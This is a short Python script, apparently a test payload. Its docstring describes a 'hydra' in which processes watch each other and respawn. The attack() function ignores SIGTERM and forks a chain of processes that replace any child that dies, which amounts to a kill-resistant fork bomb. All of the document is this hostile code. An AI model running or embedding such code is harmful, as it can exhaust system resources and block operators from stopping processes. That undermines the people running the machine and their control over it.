"""A hydra: every process watches another and starts two for one that dies."""

import os
import signal
import time

AT = "start"


def head(depth):
    while True:
        child = os.fork() if depth < 4 else 0
        if child == 0:
            if depth >= 4:
                time.sleep(300)
            depth += 1
            continue
        os.wait()
        os.fork()


def attack():
    signal.signal(signal.SIGTERM, signal.SIG_IGN)
    if os.fork() == 0:
        try:
            head(0)
        except OSError:
            time.sleep(300)
        os._exit(0)
    return {"heads": "refused: with the box"}
